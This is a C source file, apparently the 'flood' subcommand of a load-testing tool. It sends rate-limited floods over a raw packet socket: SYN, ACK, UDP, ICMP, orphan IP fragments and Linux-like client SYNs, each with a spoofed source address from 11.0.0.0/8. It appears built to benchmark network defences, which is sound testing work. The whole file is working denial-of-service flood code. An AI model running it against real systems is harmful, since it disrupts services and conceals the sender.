// flood: an attack from made-up addresses, of one class or of all at once, straight into an interface.
#include "load.h"
#include "frames.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BURST = 32, PAYLOAD = 32 };
enum class { SYN, TCP, UDP, ICMP, FRAGMENT, CLASSES, CLIENT_SYN, NAMES };
static const char *const names[NAMES] = {"syn", "tcp", "udp", "icmp", "fragment", "all", "client-syn"};

// The options of a SYN as Linux sends it with an MTU of 1500 (tcp_syn_options in net/ipv4/tcp_output.c): maximum segment
// size, SACK permitted, time stamp (its value is drawn), window scale 10 (less with little memory).
static const uint8_t client_options[20] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 10};

struct frame {
    struct ether_header ethernet;
    struct iphdr ip;
    union {
        struct tcphdr tcp;
        struct udphdr udp;
        struct icmphdr icmp;
        uint8_t bytes[20 + PAYLOAD];
    };
} __attribute__((packed));

static const char usage[] =
    "usage: flinch-load flood --interface NAME --destination-mac MAC --destination A …\n"
    "Sends frames from random addresses of 11.0.0.0/8 and prints {\"sent\":n,\"nanoseconds\":n,\"cpu\":n}.\n"
    "  --class NAME     syn (default), tcp, udp, icmp, fragment, or all of these: one after the other;\n"
    "                   or client-syn: SYNs as Linux clients send them, but for the address\n"
    "  --sources N      addresses, from 11.0.0.0 upwards, to 16777216 (1048576)\n"
    "  --rate N         packets a second (0: as fast as possible)\n"
    "  --seconds N      time to send in, at most 60 (8)\n"
    "  --port N         destination port (80)\n"
    "  --core N         the core to run on (any)\n";

// xorshift64* (Vigna 2016).
static uint64_t state;
static uint64_t draw(void) {
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return state * 0x2545F4914F6CDD1Du;
}

// Makes the packet of a class anew; returns the bytes of its frame.
static size_t make(struct frame *f, enum class class, uint32_t sources, uint32_t destination, uint16_t port) {
    uint64_t chance = draw();
    int is_tcp = class == TCP || class == SYN || class == CLIENT_SYN;
    size_t size = class == CLIENT_SYN ? 20 + sizeof client_options : is_tcp ? 20 : 8 + PAYLOAD;
    uint8_t protocol = class == ICMP ? IPPROTO_ICMP : is_tcp ? IPPROTO_TCP : IPPROTO_UDP;
    f->ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons((uint16_t)(20 + size)), .ttl = 64,
                           .protocol = protocol, .id = htons((uint16_t)(chance >> 48)), .daddr = destination};
    f->ip.saddr = htonl((11u << 24) + (uint32_t)(chance % sources));
    // A client's are those of net.ipv4.ip_local_port_range.
    uint16_t low = class == CLIENT_SYN ? 32768 : 1024, ports = class == CLIENT_SYN ? 28232 : 64512;
    uint16_t from = htons((uint16_t)(low + (chance >> 32) % ports));
    uint32_t pseudo = sum(protocol + (uint32_t)size, &f->ip.saddr, 8);
    memset(f->bytes, 0, sizeof f->bytes);
    switch (class) {
    case SYN:
    case CLIENT_SYN:
    case TCP:
        f->tcp.source = from;
        f->tcp.dest = htons(port);
        f->tcp.seq = (uint32_t)draw();
        f->tcp.doff = 5;
        f->tcp.window = htons(1024);
        if (class == TCP) f->tcp.ack = 1, f->tcp.ack_seq = (uint32_t)draw();
        else f->tcp.syn = 1;
        if (class == CLIENT_SYN) {
            f->tcp.doff = (20 + sizeof client_options) / 4;
            f->tcp.window = htons(64240);
            f->ip.frag_off = htons(IP_DF);
            uint32_t stamp = (uint32_t)draw();
            memcpy(f->bytes + 20, client_options, sizeof client_options);
            memcpy(f->bytes + 28, &stamp, sizeof stamp);
        }
        f->tcp.check = folded(sum(pseudo, f->bytes, size));
        break;
    case UDP:
        f->udp.source = from;
        f->udp.dest = htons(port);
        f->udp.len = htons((uint16_t)size);
        f->udp.check = folded(sum(pseudo, f->bytes, size));
        break;
    case ICMP:
        f->icmp.type = ICMP_ECHO;
        f->icmp.un.echo.id = from;
        f->icmp.checksum = folded(sum(0, f->bytes, size));
        break;
    default:
        // From the middle of a datagram that never becomes whole.
        f->ip.frag_off = htons(IP_MF | (uint16_t)(100 + (chance >> 40) % 900));
    }
    f->ip.check = folded(sum(0, &f->ip, 20));
    return sizeof f->ethernet + 20 + size;
}

int flood(int count, char **arguments) {
    static const struct option options[] = {
        {"interface", required_argument, NULL, 'i'}, {"destination-mac", required_argument, NULL, 'm'},
        {"destination", required_argument, NULL, 'd'}, {"class", required_argument, NULL, 'c'},
        {"sources", required_argument, NULL, 's'},   {"rate", required_argument, NULL, 'r'},
        {"seconds", required_argument, NULL, 't'},   {"port", required_argument, NULL, 'p'},
        {"core", required_argument, NULL, 'o'},      {NULL, 0, NULL, 0},
    };
    const char *interface = NULL;
    struct in_addr destination = {0};
    uint8_t mac[6];
    uint32_t sources = 1 << 20;
    uint64_t rate = 0, seconds = 8;
    uint16_t port = 80;
    int option, addressed = 0, class = SYN, core = -1;
    while ((option = getopt_long(count, arguments, "", options, NULL)) != -1) {
        switch (option) {
        case 'i': interface = optarg; break;
        case 'm': addressed += read_mac(optarg, mac); break;
        case 'd': addressed += inet_pton(AF_INET, optarg, &destination); break;
        case 'c':
            for (class = 0; class < NAMES && strcmp(optarg, names[class]) != 0;) class++;
            if (class == NAMES) return fputs(usage, stderr), 2;
            break;
        case 's': sources = (uint32_t)number(optarg, 1, 1 << 24); break;
        case 'r': rate = (uint64_t)number(optarg, 0, 100000000); break;
        case 't': seconds = (uint64_t)number(optarg, 1, 60); break;
        case 'p': port = (uint16_t)number(optarg, 0, 65535); break;
        case 'o': core = (int)number(optarg, 0, 1023); break;
        default: return fputs(usage, stderr), 2;
        }
    }
    if (!interface || addressed != 2) return fputs(usage, stderr), 2;

    if (core >= 0) {
        cpu_set_t cores;
        CPU_ZERO(&cores);
        CPU_SET(core, &cores);
        if (sched_setaffinity(0, sizeof cores, &cores)) fail("core");
    }
    int fd = packet_socket(interface);

    static struct frame frames[BURST];
    struct iovec vectors[BURST];
    struct mmsghdr messages[BURST];
    memset(messages, 0, sizeof messages);
    for (int i = 0; i < BURST; i++) {
        address_frame(&frames[i].ethernet, mac);
        vectors[i].iov_base = &frames[i];
        messages[i].msg_hdr.msg_iov = &vectors[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    state = now() | 1;
    uint64_t sent = 0, made = 0, start = now(), end = start + seconds * 1000000000u, time;
    while ((time = now()) < end) {
        uint64_t due = BURST;
        if (rate) {
            uint64_t allowed = (uint64_t)((__uint128_t)(time - start) * rate / 1000000000u);
            due = allowed > sent ? allowed - sent : 0;
            // A millisecond's packets at a time, or a burst of them: what is asleep is nobody's rival.
            if (due < BURST && due * 1000 < rate) {
                struct timespec pause = {.tv_nsec = 100000};
                nanosleep(&pause, NULL);
                continue;
            }
            if (due > BURST) due = BURST;
        }
        for (unsigned i = 0; i < due; i++, made++)
            vectors[i].iov_len = make(&frames[i], class == CLASSES ? (enum class)(made % CLASSES) : (enum class)class,
                                      sources, destination.s_addr, port);
        int n = sendmmsg(fd, messages, (unsigned)due, 0);
        // The next hop's backlog is full.
        if (n < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) fail("sendmmsg");
        if (n > 0) sent += (unsigned)n;
    }
    uint64_t wall = now() - start;
    struct timespec cpu;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &cpu);
    printf("{\"sent\":%llu,\"nanoseconds\":%llu,\"cpu\":%llu}\n", (unsigned long long)sent, (unsigned long long)wall,
           (unsigned long long)cpu.tv_sec * 1000000000u + (unsigned long long)cpu.tv_nsec);
    return 0;
}
